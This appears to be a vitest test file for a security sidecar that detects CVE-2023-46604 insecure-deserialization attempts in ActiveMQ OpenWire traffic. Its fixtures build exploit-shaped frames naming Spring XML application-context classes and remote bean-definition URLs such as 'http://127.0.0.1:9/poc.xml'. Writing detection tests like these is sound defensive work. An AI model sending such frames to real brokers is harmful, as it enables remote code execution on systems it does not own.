/**
 * insecure-deserialization on ActiveMQ's OpenWire (CVE-2023-46604): frames read by the real parser after Debian
 * ActiveMQ 5.17.2's captured exchange (openwire-frames.ts) and handed to the runner with every registered detector and
 * the shipped policy, as the tap does.
 */
import { describe, expect, it } from 'vitest';
import type { Direction, ProtocolEvent } from '#sidecar/events.ts';
import { openwire } from '#sidecar/protocols/openwire.ts';
import { createThreatRunner } from '#sidecar/threats/runner.ts';
import { exceptionResponse, messageAck, openwireExchange } from '#test/fixtures/protocols/openwire-frames.ts';
import { threatsBy } from '#test/helpers/split-findings.ts';
import { flow } from './threat-factories.ts';

const brokerFlow = flow({ protocol: 'openwire' });

/** The insecure-deserialization findings of an exchange, through the parser and every detector. */
const findings = (segments: readonly (readonly [Direction, Uint8Array])[]): [string, string][] => {
  const parser = openwire.createParser();
  const runner = createThreatRunner();
  for (const [direction, bytes] of segments)
    for (const event of parser.parse(bytes, direction, 1_000) as ProtocolEvent[])
      runner.onEvent(brokerFlow, event);
  runner.onFlowEnd(brokerFlow);
  return threatsBy(runner.drain(1_000_000), 'insecure-deserialization').map((f) => [f.severity, f.evidence]);
};

const spring = 'org.springframework.context.support.ClassPathXmlApplicationContext';

describe('insecure-deserialization on OpenWire', () => {
  it("reports the exploit's Spring XML context critical, naming the class and the URL", () => {
    expect(findings([['to-server', exceptionResponse(spring, 'http://127.0.0.1:9/poc.xml')]])).toEqual([
      [
        'critical',
        `ActiveMQ OpenWire exception-response carrying a Throwable of class ${spring}, which a broker instantiates with its message (CVE-2023-46604) with gadget ${spring} (a Spring XML application context: loads and runs the bean definitions at the URL) — openwire exception-response: message "http://127.0.0.1:9/poc.xml"`,
      ],
    ]);
    const fileSystem = 'org.apache.xbean.spring.context.FileSystemXmlApplicationContext';
    const after = [
      ...openwireExchange.slice(0, 2),
      ['to-server', exceptionResponse(fileSystem, 'http://x/a.xml')],
    ];
    expect(findings(after as [Direction, Uint8Array][]).map(([severity]) => severity)).toEqual(['critical']);
    // A MessageAck's poison cause is instantiated the same way.
    const [[severity, evidence] = []] = findings([['to-server', messageAck(spring, 'http://x/b.xml')]]);
    expect([severity, evidence?.split(' — ')[1]]).toEqual([
      'critical',
      'openwire ack: message "http://x/b.xml"',
    ]);
  });

  it("reports another class high, and leaves the JDK's and ActiveMQ's exceptions and the real exchange alone", () => {
    const [[severity, evidence] = []] = findings([
      ['to-server', exceptionResponse('java.io.FileOutputStream', '/x')],
    ]);
    expect([severity, evidence?.split(' — ')[0]]).toEqual([
      'high',
      'ActiveMQ OpenWire exception-response carrying a Throwable of class java.io.FileOutputStream, which a broker instantiates with its message (CVE-2023-46604), no known gadget',
    ]);
    for (const own of [
      'java.lang.IllegalStateException',
      'javax.jms.JMSException',
      'org.apache.activemq.ConfigurationException',
    ])
      expect(findings([['to-server', exceptionResponse(own, 'closed')]]), own).toEqual([]);
    expect(findings(openwireExchange)).toEqual([]);
    // From the broker: not the client's doing.
    expect(findings([['to-client', exceptionResponse(spring, 'http://x/a.xml')]])).toEqual([]);
  });
});
